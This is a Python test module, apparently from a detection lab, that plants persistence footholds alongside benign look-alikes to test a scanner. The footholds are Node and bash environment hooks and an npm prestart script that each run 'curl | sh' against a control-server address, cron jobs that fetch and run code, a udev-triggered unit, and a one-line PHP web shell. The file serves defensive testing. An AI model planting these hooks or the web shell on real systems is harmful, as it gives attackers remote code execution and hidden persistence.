"""Code that variables, packages, repositories and web pages bring in: loaded or run by what was there before."""

from __future__ import annotations

from tests.lab.case import case
from tests.lab.cases_persistence import system_cron
from tests.lab.cases_systemd import unit
from tests.lab.room import CONTROL_SERVER, Planted, Room

_HOST, _PORT = CONTROL_SERVER
_URL = f"http://{_HOST}/netd"
_DOWNLOAD = f"curl -s {_URL} | sh"


def _script(room: Room, path: str, *lines: str) -> str:
    return room.write(path, "\n".join(["#!/bin/sh", *lines, ""]), 0o755)


@case(5, startup_suspicious_command="path")
def module_for_every_node(room: Room) -> Planted:
    """a module that all programs of Node load, by a variable of logins."""
    room.write("/opt/lib/hook.js", f'require("child_process").execSync("{_DOWNLOAD}")\n')
    return {"path": room.write("/etc/environment", 'NODE_OPTIONS="--max-old-space-size=512 --require /opt/lib/hook.js"\n')}


@module_for_every_node.twin
def _(room: Room) -> Planted:
    """agents that watch applications, loaded in the same way."""
    room.write("/opt/agent/init.js", "'use strict'\nmodule.exports = require('.').init()\n")
    room.write("/opt/agent/agent.jar", b"PK\x03\x04\x00")
    text = "NODE_OPTIONS=--require /opt/agent/init.js\nJAVA_TOOL_OPTIONS=-javaagent:/opt/agent/agent.jar -Xmx1g\n"
    return {"path": room.write("/etc/environment", text)}


@case(2, systemd_suspicious_command="path")
def file_for_every_bash(room: Room) -> Planted:
    """a unit that has each of its shells read a file first."""
    room.write("/opt/app/env.sh", f"{_DOWNLOAD}\n")
    lines = ("Environment=BASH_ENV=/opt/app/env.sh", f"ExecStart={_script(room, '/opt/app/run', 'true')}")
    return {"path": unit(room, "app", *lines)}


@file_for_every_bash.twin
def _(room: Room) -> Planted:
    """a unit whose shells read where modules of a cluster lie."""
    room.write("/opt/lmod/init", 'module() { eval "$($LMOD_CMD bash "$@")"; }\n')
    lines = ("Environment=BASH_ENV=/opt/lmod/init ENV=production", f"ExecStart={_script(room, '/opt/sim/run', 'true')}")
    return {"path": unit(room, "sim", *lines)}


@case(16, systemd_unpackaged_system_program="path")
def unit_that_a_device_wants(room: Room) -> Planted:
    """a unit that is enabled by nothing but a rule for devices."""
    program = room.program("/var/lib/netw/netw0")
    room.write("/etc/udev/rules.d/99-net.rules", 'SUBSYSTEM=="net", TAG+="systemd", ENV{SYSTEMD_WANTS}+="netw0.service"\n')
    return {"path": unit(room, "netw0", f"ExecStart={program}", is_enabled=False)}


@unit_that_a_device_wants.twin
def _(room: Room) -> Planted:
    """a backup that starts when its disk is plugged in."""
    program = room.program("/usr/local/bin/labbackup")
    rule = 'ACTION=="add", ENV{ID_FS_LABEL}=="backup", TAG+="systemd", ENV{SYSTEMD_WANTS}="labbackup@$env{ID_FS_UUID}.service"\n'
    room.write("/etc/udev/rules.d/50-backup.rules", rule)
    return {"path": unit(room, "labbackup@", f"ExecStart={program} %i", is_enabled=False)}


@case(2, cron_download_and_run="path")
def repository_that_is_run(room: Room) -> Planted:
    """a job that clones a public repository and runs a file of it."""
    return system_cron(room, "tool", "*/5 * * * * root cd /opt && git clone -q https://github.com/a/b.git w; cd w && ./run")


@repository_that_is_run.twin
def _(room: Room) -> Planted:
    """what a company keeps on its own server: a playbook, checks, a mirror."""
    system_cron(room, "pull", "*/5 * * * * root ansible-pull -U https://git.corp.example.com/ops.git -d /opt/ops site.yml")
    system_cron(room, "mirror", "7 * * * * root git clone --mirror https://github.com/a/b /srv/b.git || git -C /srv/b.git fetch")
    return system_cron(room, "checks", "9 * * * * root git clone -q git@git.corp.example.com:ops/c.git /opt/c; /opt/c/all")


@case(2, cron_download_and_run="path")
def archive_that_is_unpacked_and_run(room: Room) -> Planted:
    """a script that fetches an archive, unpacks it and runs a program out of it under another name."""
    lines = (f"curl -so /opt/net/a.png {_URL}.tgz", "mv /opt/net/a.png /opt/net/a.tgz", "tar -C /opt/net -xzf /opt/net/a.tgz")
    return system_cron(room, "net", f"@reboot root {_script(room, '/opt/net/start', *lines, '/opt/net/b/netd &')}")


@archive_that_is_unpacked_and_run.twin
def _(room: Room) -> Planted:
    """a script that fetches an archive of data, and another that checks a backup."""
    lines = ("curl -so /srv/geo/a.tgz https://www.example.org/geo.tgz", "tar -C /srv/geo -xzf /srv/geo/a.tgz", "/opt/geo/load")
    system_cron(room, "geo", f"7 * * * * root {_script(room, '/opt/geo/fetch', *lines)}")
    return system_cron(room, "check", "9 * * * * root tar xzf /srv/b.tgz -C /srv/restore && /opt/check/all /srv/restore")


@case(2, systemd_suspicious_command="path")
def package_that_fetches(room: Room) -> Planted:
    """a unit that has npm start an application whose package.json fetches first."""
    room.write("/srv/shop/package.json", f'{{"scripts": {{"prestart": "{_DOWNLOAD}", "start": "node server.js"}}}}\n')
    return {"path": unit(room, "shop", "WorkingDirectory=/srv/shop", "ExecStart=/usr/bin/npm start")}


@package_that_fetches.twin
def _(room: Room) -> Planted:
    """an application whose package.json holds a command for developers that fetches a tool."""
    text = f'{{"scripts": {{"start": "node server.js", "postinstall": "patch-package", "tools": "{_DOWNLOAD}"}}}}\n'
    room.write("/srv/blog/package.json", text)
    return {"path": unit(room, "blog", "WorkingDirectory=/srv/blog", "ExecStart=/usr/bin/npm start")}


@case(17, web_shell="path")
def page_that_runs_what_it_is_told(room: Room) -> Planted:
    """a page among uploads that runs what a request brings."""
    return {"path": room.write("/var/www/html/wp-content/uploads/2026/x.php", "<?php $c = $_POST['c']; system($c . ' 2>&1');\n")}


@page_that_runs_what_it_is_told.twin
def _(room: Room) -> Planted:
    """a page that shows what a request asks for, and one that pings a host whose name is quoted."""
    room.write("/var/www/html/search.php", "<?php echo htmlspecialchars($_GET['q']); exec('uptime', $lines);\n")
    return {"path": room.write("/var/www/html/ping.php", "<?php exec('ping -c1 ' . escapeshellarg($_GET['host']), $out);\n")}
